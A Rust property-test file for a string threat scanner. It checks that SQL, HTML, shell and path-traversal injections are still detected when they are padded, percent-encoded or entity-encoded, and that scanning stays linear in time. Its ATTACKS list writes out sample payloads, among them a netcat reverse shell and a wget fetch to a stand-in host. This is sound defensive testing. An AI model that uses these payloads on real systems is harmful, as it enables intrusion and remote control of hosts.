//! Threats in strings: what must hold for every text, whatever the verdict. The rates on corpora are in `adarga-host`.

use std::fmt::Write;

use adarga_core::threat::{Kinds, scan, suspicious};
use proptest::{collection::vec, prelude::*, sample::select};

/// Texts of which each has one kind, by another way to break out.
const ATTACKS: [(&str, Kinds); 12] = [
    ("17 union select name, pin from staff", Kinds::SQL),
    ("x' or 'q'='q", Kinds::SQL),
    ("x\" or \"q\"=\"q", Kinds::SQL),
    ("17; drop table staff;", Kinds::SQL),
    ("<img src=q onerror=go()>", Kinds::HTML),
    ("<script>go()</script>", Kinds::HTML),
    ("\" onfocus=go() autofocus=\"", Kinds::HTML),
    ("x; wget http://k.example/z", Kinds::SHELL),
    ("$(whoami)", Kinds::SHELL),
    ("a|nc -e /bin/sh k.example 99", Kinds::SHELL),
    ("../../../secret", Kinds::TRAVERSAL),
    ("docs\\..\\..\\secret", Kinds::TRAVERSAL),
];

/// Pieces of which texts are put together that are near to attacks.
const PIECES: [&str; 40] = [
    "'",
    "\"",
    "`",
    "\\",
    "%27",
    "%2e",
    "&lt;",
    "&#60",
    "\\u0027",
    "＜",
    "<",
    ">",
    "=",
    "(",
    ")",
    ";",
    "|",
    "&",
    "$(",
    "../",
    "/*",
    "*/",
    "--",
    "#",
    " ",
    "\n",
    "or",
    "and",
    "union",
    "select",
    "sleep",
    "1",
    "id",
    "cat",
    "/etc/",
    "on",
    "error",
    "script",
    "javascript:",
    "x",
];

fn texts() -> impl Strategy<Value = Vec<u8>> {
    prop_oneof![vec(any::<u8>(), 0..300), vec(select(&PIECES[..]), 0..40).prop_map(|pieces| pieces.concat().into_bytes())]
}

/// The text inside of a message, as serde_json writes it.
fn message(text: &str) -> Vec<u8> {
    serde_json::json!({ "params": { "name": "t", "arguments": [{ "note": text }] } }).to_string().into_bytes()
}

fn percent(text: &str, all: bool) -> String {
    let encoded =
        |byte: u8| if all || !byte.is_ascii_alphanumeric() { format!("%{byte:02X}") } else { char::from(byte).to_string() };
    text.bytes().map(encoded).collect()
}

fn entities(text: &str) -> String {
    text.chars().fold(String::new(), |mut out, c| {
        write!(out, "&#x{:x};", u32::from(c)).unwrap();
        out
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() })]

    /// The verdict is one of the bytes: the same again, at any address, with anything around that is not part of the text.
    #[test]
    fn a_verdict_is_a_function_of_the_bytes(text in texts(), before in 0..70_usize, around in any::<u8>()) {
        let kinds = scan(&text);
        let mut buffer = vec![around; before];
        buffer.extend_from_slice(&text);
        buffer.extend([around; 9]);
        prop_assert_eq!(scan(&buffer[before..before + text.len()]), kinds);
        prop_assert_eq!(kinds.is_empty(), kinds.reason().is_none());
        prop_assert_eq!(kinds.names().count(), Kinds::NAMED.into_iter().filter(|(kind, ..)| kinds.contains(*kind)).count());
    }

    /// What the prefilter lets pass is nothing: the text itself, and a message that holds it.
    #[test]
    fn the_prefilter_misses_nothing(text in texts()) {
        if !suspicious(&text) {
            prop_assert!(scan(&text).is_empty());
        }
        if let Ok(text) = String::from_utf8(text)
            && !suspicious(&message(&text))
        {
            prop_assert!(scan(text.as_bytes()).is_empty(), "{:?}", text);
        }
    }

}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, failure_persistence: None, ..ProptestConfig::default() })]

    /// Ordinary words before an attack, or a line behind it, hide nothing.
    #[test]
    fn padding_hides_nothing(words in vec("[a-z]{1,9}", 0..400), which in select(&ATTACKS[..])) {
        let (attack, kinds) = which;
        // a quote closes a literal, whatever stands in it
        let padded = format!("{} {attack}", words.join(" "));
        prop_assert!(scan(padded.as_bytes()).contains(kinds), "{padded}");
    }

    /// Encodings that servers undo hide nothing: percent once and twice, of all bytes or of signs, and entities.
    #[test]
    fn encodings_hide_nothing(which in select(&ATTACKS[..]), all in any::<bool>(), padding in 0..5000_usize) {
        let (attack, kinds) = which;
        for encoded in [percent(attack, all), percent(&percent(attack, all), false), entities(attack)] {
            let padded = format!("{} {encoded}", "word ".repeat(padding / 5));
            prop_assert!(scan(padded.as_bytes()).contains(kinds), "{encoded} behind {padding}");
        }
    }

    /// Letters, digits and blanks alone are nothing.
    #[test]
    fn plain_words_are_nothing(text in "[b-df-hj-np-tv-z0-9 ,]{0,200}") {
        prop_assert_eq!(scan(text.as_bytes()), Kinds::NONE);
        prop_assert!(!suspicious(text.as_bytes()), "{}", text);
    }
}

#[test]
fn kinds_are_a_set() {
    let all = Kinds::NAMED.into_iter().fold(Kinds::NONE, |all, (kind, ..)| {
        assert!(!kind.is_empty() && kind.intersection(all).is_empty());
        all.union(kind)
    });
    assert_eq!(all, Kinds::ALL);
    assert_eq!(all.names().collect::<Vec<_>>(), ["sql", "html", "shell", "traversal"]);
    assert!(all.contains(Kinds::NONE) && !Kinds::NONE.contains(Kinds::SQL));
}

/// Units that make a careless reader go over the same bytes again and again.
#[cfg(target_os = "linux")]
const HOSTILE: [&[u8]; 24] = [
    b"'",
    b"\"",
    b"((",
    b"/*a ",
    b"/*",
    b"<a ",
    b"<\0a",
    b"<",
    b"\\",
    b".\0",
    b"& ",
    b"&amp;",
    b"&#",
    b"%25",
    b";id                  ",
    b"\nid ",
    b"id\n",
    b"java\x01",
    b"exp/**/",
    b"| |",
    b"${a(",
    b"`id ",
    b"[] ",
    b"on!",
];

/// The time that this thread has had a processor: what a busy machine does meanwhile doesn't count.
#[cfg(target_os = "linux")]
pub(crate) fn processor_time_ns() -> u64 {
    let stat = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
    stat.split(' ').next().unwrap().parse().unwrap()
}

#[cfg(target_os = "linux")]
fn fastest_ns(text: &[u8], times: usize) -> u64 {
    let time = || {
        let start = processor_time_ns();
        for _ in 0..times {
            std::hint::black_box(scan(std::hint::black_box(text)));
        }
        processor_time_ns() - start
    };
    (0..2).map(|_| time()).min().unwrap()
}

/// A text that is sixteen times as long costs as much as sixteen texts. To a reader that is quadratic anywhere it costs sixteen
/// times as much; between them is room for caches and for a clock that ticks.
#[cfg(target_os = "linux")]
#[test]
fn the_cost_is_linear() {
    const TICK_NS: u64 = 10_000_000;
    for unit in HOSTILE {
        let (short, long) = (unit.repeat((8 << 10) / unit.len()), unit.repeat((128 << 10) / unit.len()));
        let (many, one) = (fastest_ns(&short, 16), fastest_ns(&long, 1));
        assert!(one < 4 * (many + TICK_NS), "{:?}: {one} ns, not {many}", String::from_utf8_lossy(unit));
    }
}
